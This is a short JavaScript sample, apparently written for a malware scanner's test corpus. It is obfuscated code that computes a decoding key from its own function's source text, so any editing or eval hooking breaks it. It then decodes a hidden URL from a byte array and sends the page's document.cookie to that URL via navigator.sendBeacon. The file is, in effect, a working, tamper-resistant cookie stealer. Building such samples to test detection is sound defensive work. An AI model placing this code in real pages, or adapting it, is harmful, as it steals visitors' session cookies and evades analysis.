// Written for shieldscan's corpus: the key that hides the URL is derived
// from the text of one of the script's own functions (f.toString()), so
// editing the script (or hooking eval inside it) breaks the decoding.
function _k(a) {
  var t = eval("a * 2");
  return t + 1;
}
(function () {
  var s = _k.toString(), key = 0;
  for (var i = 0; i < s.length; i++) key = (key + s.charCodeAt(i)) % 251;
  if (_k(20) !== 41) return;
  var e = [138,150,150,146,145,216,205,205,128,135,131,129,141,140,204,145,135,142,132,207,137,135,155,204,135,154,131,143,146,142,135,205,128], u = "";
  for (var j = 0; j < e.length; j++) u += String.fromCharCode(e[j] ^ key);
  navigator.sendBeacon(u, document.cookie);
})();
